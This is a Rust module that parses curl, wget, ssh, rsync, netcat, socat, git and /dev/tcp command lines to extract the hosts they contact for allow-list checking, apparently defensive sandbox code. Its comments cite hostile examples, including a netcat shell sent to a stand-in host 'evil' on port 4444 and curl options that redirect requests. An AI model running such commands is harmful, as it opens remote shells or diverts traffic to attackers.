//! Hosts reached by the tools that move data over the network.
//!
//! For each tool, its operands (and the options naming a proxy, a jump host
//! or an address override) are read as the tool reads them, and reduced to
//! a host: lower-cased, without user, port, brackets or trailing dot, so an
//! allow-list compares like with like. What cannot be reduced (`$URL`,
//! curl's `{a,b}` globs) is reported as written: it will not be on an
//! allow-list, which is the point.

use super::opts::{NO_VALUES, Spec, scan};

pub(crate) const CURL: Spec = Spec {
    short: "AbcCdDeEFHKmoPQrtTuUwxXyYz",
    long: "--abstract-unix-socket --alt-svc --aws-sigv4 --cacert --capath --cert \
        --cert-type --ciphers --config --connect-timeout --connect-to \
        --continue-at --cookie --cookie-jar --create-file-mode --crlfile \
        --curves --data --data-ascii --data-binary --data-raw --data-urlencode \
        --delegation --dns-interface --dns-ipv4-addr --dns-ipv6-addr \
        --dns-servers --doh-url --dump-header --ech --egd-file --engine \
        --etag-compare --etag-save --expect100-timeout --form --form-string \
        --ftp-account --ftp-alternative-to-user --ftp-method --ftp-port \
        --ftp-ssl-ccc-mode --happy-eyeballs-timeout-ms --haproxy-clientip \
        --header --hostpubmd5 --hostpubsha256 --hsts --interface --ip-tos --json \
        --keepalive-time --key --key-type --krb --libcurl --limit-rate \
        --local-port --login-options --mail-auth --mail-from --mail-rcpt \
        --max-filesize --max-redirs --max-time --netrc-file --noproxy \
        --oauth2-bearer --output --output-dir --pass --pinnedpubkey --preproxy \
        --proto --proto-default --proto-redir --proxy --proxy-cacert \
        --proxy-capath --proxy-cert --proxy-cert-type --proxy-ciphers \
        --proxy-crlfile --proxy-header --proxy-key --proxy-key-type --proxy-pass \
        --proxy-pinnedpubkey --proxy-service-name --proxy-tls13-ciphers \
        --proxy-tlsauthtype --proxy-tlspassword --proxy-tlsuser --proxy-user \
        --proxy1.0 --pubkey --quote --random-file --range --rate --referer \
        --request --request-target --resolve --retry --retry-delay \
        --retry-max-time --sasl-authzid --service-name --socks4 --socks4a \
        --socks5 --socks5-gssapi-service --socks5-hostname --speed-limit \
        --speed-time --stderr --telnet-option --tftp-blksize --time-cond \
        --tls-max --tls13-ciphers --tlsauthtype --tlspassword --tlsuser --trace \
        --trace-ascii --trace-config --unix-socket --upload-file --url \
        --url-query --user --user-agent --variable --vlan-priority --write-out",
    permute: true,
    ..NO_VALUES
};
pub(crate) const WGET: Spec = Spec {
    short: "aABDeIilOoPQRTtUwX",
    long: "--accept --append-output --base --bind-address --body-data --body-file \
        --ca-certificate --certificate --connect-timeout --cut-dirs \
        --default-page --directory-prefix --dns-timeout --domains \
        --exclude-directories --exclude-domains --execute --follow-tags --header \
        --http-password --http-user --ignore-tags --include-directories \
        --input-file --level --limit-rate --load-cookies --local-encoding \
        --method --output-document --output-file --password --post-data \
        --post-file --private-key --progress --proxy-password --proxy-user \
        --quota --read-timeout --referer --reject --rejected-log \
        --remote-encoding --restrict-file-names --save-cookies --timeout --tries \
        --user --user-agent --wait --waitretry",
    permute: true,
    ..NO_VALUES
};
pub(crate) const SSH: Spec = Spec {
    short: "BbcDEeFIiJLlmOoPpQRSWw",
    ..NO_VALUES
};
pub(crate) const SCP: Spec = Spec {
    short: "cDFiJloPSX",
    permute: true,
    ..NO_VALUES
};
pub(crate) const SFTP: Spec = Spec {
    short: "BbcDFiJlPRSsoX",
    permute: true,
    ..NO_VALUES
};
pub(crate) const RSYNC: Spec = Spec {
    short: "BefTM@",
    long: "--address --backup-dir --block-size --bwlimit --checksum-choice --chmod \
        --chown --compare-dest --compress-choice --compress-level --contimeout \
        --copy-dest --debug --exclude --exclude-from --files-from --filter \
        --groupmap --iconv --include --include-from --info --link-dest \
        --log-file --log-file-format --max-delete --max-size --min-size \
        --modify-window --only-write-batch --out-format --outbuf --partial-dir \
        --password-file --port --protocol --read-batch --remote-option --rsh \
        --rsync-path --skip-compress --sockopts --stop-after --stop-at --suffix \
        --temp-dir --timeout --usermap --write-batch",
    permute: true,
    ..NO_VALUES
};
pub(crate) const TELNET: Spec = Spec {
    short: "beklnX",
    permute: true,
    ..NO_VALUES
};
/// OpenBSD and traditional netcat. Where they disagree (`-c` runs a command
/// in one and is a flag in the other), the option is read as a flag, so its
/// would-be value stays an operand and is reported as a host.
pub(crate) const NC: Spec = Spec {
    short: "eGgHIiKMmOoPpqRsTVwXxZ",
    permute: true,
    ..NO_VALUES
};
pub(crate) const NCAT: Spec = Spec {
    short: "cdeGgimopswx",
    long: "--allow --allowfile --delay --deny --denyfile --exec --hex-dump \
        --idle-timeout --lua-exec --max-conns --output --proxy --proxy-auth \
        --proxy-dns --proxy-type --sh-exec --source --source-port --ssl-alpn \
        --ssl-cert --ssl-ciphers --ssl-key --ssl-servername --ssl-trustfile \
        --wait",
    permute: true,
    ..NO_VALUES
};
pub(crate) const SOCAT: Spec = Spec {
    short: "bLRrTtW",
    permute: true,
    ..NO_VALUES
};
const FTP: Spec = Spec {
    short: "Pors",
    permute: true,
    ..NO_VALUES
};
const GIT: Spec = Spec {
    short: "Cc",
    long: "--git-dir --work-tree --namespace --config-env",
    ..NO_VALUES
};

/// Adds the hosts that `program` (a basename) run with `args` reaches.
pub(crate) fn hosts(program: &str, args: &[String], out: &mut Vec<String>) {
    let operands = |spec: &Spec| -> Vec<&String> {
        scan(args, spec)
            .operands
            .iter()
            .filter_map(|&i| args.get(i))
            .collect()
    };
    match program {
        "curl" => {
            let found = scan(args, &CURL);
            out.extend(
                found
                    .operands
                    .iter()
                    .filter_map(|&i| url_host(args.get(i)?)),
            );
            let proxies = [
                "x",
                "--proxy",
                "--preproxy",
                "--proxy1.0",
                "--socks4",
                "--socks4a",
                "--socks5",
                "--socks5-hostname",
                "--url",
                "--doh-url",
            ];
            out.extend(found.values_of(&proxies).filter_map(url_host));
            // `--connect-to a:443:evil:443` and `--resolve a:443:6.6.6.6`
            // send the request elsewhere than its URL says.
            for value in found.values_of(&["--connect-to"]) {
                out.extend(split_colons(value).get(2).and_then(|h| normalise(h)));
            }
            for value in found.values_of(&["--resolve"]) {
                let fields = split_colons(value.trim_start_matches('+'));
                let addrs = fields.get(2..).map(|f| f.join(":")).unwrap_or_default();
                out.extend(addrs.split(',').filter_map(normalise));
            }
        }
        "wget" => out.extend(operands(&WGET).into_iter().filter_map(|a| url_host(a))),
        "scp" | "rsync" => {
            let spec = if program == "scp" { &SCP } else { &RSYNC };
            out.extend(operands(spec).into_iter().filter_map(|a| remote_host(a)));
            ssh_option_hosts(args, spec, out);
        }
        "sftp" => {
            out.extend(operands(&SFTP).first().and_then(|a| sftp_host(a)));
            ssh_option_hosts(args, &SFTP, out);
        }
        "ssh" => ssh_hosts(args, out),
        "telnet" => out.extend(operands(&TELNET).first().and_then(|a| plain_host(a))),
        "ftp" | "tftp" | "lftp" => out.extend(operands(&FTP).first().and_then(|a| {
            if a.contains("://") {
                url_host(a)
            } else {
                plain_host(a)
            }
        })),
        "nc" | "netcat" | "ncat" => netcat_hosts(program, args, out),
        "socat" => {
            for addr in operands(&SOCAT) {
                socat_hosts(addr, out);
            }
        }
        "git" => git_hosts(args, out),
        _ => {}
    }
}

/// `ssh [opts] [user@]host [opts] [command…]`: OpenSSH reads options again
/// right after the destination; the words after them are a remote command.
fn ssh_hosts(args: &[String], out: &mut Vec<String>) {
    let first = scan(args, &SSH);
    let Some(dest_at) = first.rest() else {
        ssh_option_hosts(args, &SSH, out);
        return;
    };
    if let Some(dest) = args.get(dest_at) {
        out.extend(ssh_dest(dest));
    }
    let (before, after) = args.split_at((dest_at + 1).min(args.len()));
    ssh_option_hosts(before, &SSH, out);
    ssh_option_hosts(after, &SSH, out);
}

/// Jump hosts (`-J`, `-o ProxyJump=`), `-o HostName=` and `-W host:port`.
fn ssh_option_hosts(args: &[String], spec: &Spec, out: &mut Vec<String>) {
    let found = scan(args, spec);
    for jumps in found.values_of(&["J"]) {
        out.extend(jumps.split(',').filter_map(jump_host));
    }
    for option in found.values_of(&["o"]) {
        let Some((key, value)) = ssh_option(option) else {
            continue;
        };
        match key.to_ascii_lowercase().as_str() {
            "proxyjump" => out.extend(value.split(',').filter_map(jump_host)),
            "hostname" => out.extend(normalise(value)),
            _ => {}
        }
    }
    for forward in found.values_of(&["W"]) {
        out.extend(host_port(forward));
    }
}

/// `Key=Value` or `Key Value`, as `ssh -o` takes them.
pub(crate) fn ssh_option(option: &str) -> Option<(&str, &str)> {
    let option = option.trim_start();
    let at = option.find(['=', ' ', '\t'])?;
    let (key, value) = option.split_at(at);
    let value = value.trim_start_matches([' ', '\t']);
    let value = value.strip_prefix('=').unwrap_or(value).trim_start();
    Some((key, value))
}

fn netcat_hosts(program: &str, args: &[String], out: &mut Vec<String>) {
    let spec = if program == "ncat" { &NCAT } else { &NC };
    let found = scan(args, spec);
    // Listening binds a local address, and `-U` names a socket file.
    if found.has_flag(&["l", "--listen", "U", "--unixsock"]) {
        return;
    }
    // Every operand that is not a port is a host: in `nc -c 'sh' evil 4444`
    // the traditional netcat's command is one of them, and reporting it is
    // better than missing `evil`.
    for &i in &found.operands {
        if let Some(arg) = args.get(i).filter(|a| !is_port(a)) {
            out.extend(plain_host(arg));
        }
    }
    let proxy_keys: &[&str] = if program == "ncat" {
        &["--proxy"]
    } else {
        &["x"]
    };
    out.extend(found.values_of(proxy_keys).filter_map(host_port));
}

/// `TCP:host:port`, `OPENSSL:host:port`, `SOCKS4A:socks:host:port`, …
fn socat_hosts(addr: &str, out: &mut Vec<String>) {
    let addr = addr.split(',').next().unwrap_or_default();
    let fields = split_colons(addr);
    let Some(kind) = fields.first().map(|k| k.to_ascii_lowercase()) else {
        return;
    };
    let host_fields = match kind.as_str() {
        "tcp"
        | "tcp4"
        | "tcp6"
        | "tcp-connect"
        | "tcp4-connect"
        | "tcp6-connect"
        | "udp"
        | "udp4"
        | "udp6"
        | "udp-connect"
        | "udp4-connect"
        | "udp6-connect"
        | "udp-sendto"
        | "udp4-sendto"
        | "udp6-sendto"
        | "udp-datagram"
        | "udp4-datagram"
        | "udp6-datagram"
        | "sctp-connect"
        | "sctp4-connect"
        | "sctp6-connect"
        | "dccp-connect"
        | "openssl"
        | "openssl-connect"
        | "ssl"
        | "openssl-dtls-client" => 1..2,
        "proxy" | "proxy-connect" | "socks" | "socks4" | "socks4a" | "socks5"
        | "socks5-connect" => 1..3,
        _ => return,
    };
    for field in fields.get(host_fields).unwrap_or_default() {
        out.extend(normalise(field));
    }
}

/// `git clone|fetch|pull|push|ls-remote|remote|submodule|archive` with
/// URLs or `user@host:path`; `git clone host:path` too.
fn git_hosts(args: &[String], out: &mut Vec<String>) {
    let Some(sub_at) = scan(args, &GIT).rest() else {
        return;
    };
    let Some(sub) = args.get(sub_at) else {
        return;
    };
    let remote_commands = [
        "clone",
        "fetch",
        "pull",
        "push",
        "ls-remote",
        "remote",
        "submodule",
        "archive",
    ];
    if !remote_commands.contains(&sub.as_str()) {
        return;
    }
    let mut first = true;
    for arg in args.get(sub_at + 1..).unwrap_or_default() {
        let arg = arg.strip_prefix("--remote=").unwrap_or(arg);
        if arg.starts_with('-') {
            continue;
        }
        if arg.contains("://") {
            out.extend(url_host(arg));
        } else if (arg.contains('@') || (first && sub == "clone")) && !arg.starts_with('.') {
            out.extend(remote_host(arg));
        }
        first = false;
    }
}

/// `/dev/tcp/host/port` and `/dev/udp/host/port` in a bash redirection
/// open a connection.
pub(crate) fn dev_tcp_host(target: &str) -> Option<String> {
    let rest = target
        .strip_prefix("/dev/tcp/")
        .or_else(|| target.strip_prefix("/dev/udp/"))?;
    normalise(rest.split('/').next().unwrap_or_default())
}

/// `scheme://[user@]host[:port]/…`, or a bare `host[:port]/…` as curl takes it.
pub(crate) fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, hp)| hp);
    self::host_port(host_port)
}

/// `host[:port]` or `[v6]:port`.
fn host_port(s: &str) -> Option<String> {
    match s.strip_prefix('[') {
        Some(inner) => normalise(inner.split(']').next().unwrap_or_default()),
        None => normalise(s.split(':').next().unwrap_or_default()),
    }
}

/// `[user@]host:path` (scp, rsync, git) or a URL; `None` for a local path
/// (no `:`, or a `/` before it).
pub(crate) fn remote_host(arg: &str) -> Option<String> {
    if arg.contains("://") {
        return url_host(arg);
    }
    let colon = first_colon(arg)?;
    let before = &arg[..colon];
    if before.contains('/') {
        return None;
    }
    let host = before.rsplit_once('@').map_or(before, |(_, h)| h);
    normalise(host)
}

/// `sftp [user@]host[:path]`.
fn sftp_host(arg: &str) -> Option<String> {
    remote_host(arg).or_else(|| ssh_dest(arg))
}

/// `ssh [user@]host` (no port syntax: a bare IPv6 address keeps its colons)
/// or `ssh://user@host:port`.
fn ssh_dest(arg: &str) -> Option<String> {
    if arg.contains("://") {
        return url_host(arg);
    }
    plain_host(arg)
}

/// `[user@]host[:port]` as `-J` takes it, or a URL.
fn jump_host(jump: &str) -> Option<String> {
    if jump.contains("://") {
        return url_host(jump);
    }
    let host = jump.rsplit_once('@').map_or(jump, |(_, h)| h);
    if host.starts_with('[') || host.matches(':').count() == 1 {
        host_port(host)
    } else {
        normalise(host)
    }
}

/// A host operand as written, without user.
fn plain_host(arg: &str) -> Option<String> {
    normalise(arg.rsplit_once('@').map_or(arg, |(_, h)| h))
}

fn is_port(arg: &str) -> bool {
    !arg.is_empty()
        && arg
            .split(['-', ','])
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
}

/// The byte offset of the first `:` outside `[…]`.
fn first_colon(s: &str) -> Option<usize> {
    let mut in_brackets = false;
    for (i, c) in s.char_indices() {
        match c {
            '[' => in_brackets = true,
            ']' => in_brackets = false,
            ':' if !in_brackets => return Some(i),
            _ => {}
        }
    }
    None
}

/// Splits on `:` outside `[…]`.
fn split_colons(s: &str) -> Vec<&str> {
    let mut fields = Vec::new();
    let mut rest = s;
    while let Some(at) = first_colon(rest) {
        fields.push(&rest[..at]);
        rest = &rest[at + 1..];
    }
    fields.push(rest);
    fields
}

/// Lower-case, without brackets or one trailing dot; `None` when empty.
pub(crate) fn normalise(host: &str) -> Option<String> {
    let host = host.trim();
    let host = host
        .strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .unwrap_or(host);
    let host = host.strip_suffix('.').unwrap_or(host);
    (!host.is_empty()).then(|| host.to_lowercase())
}
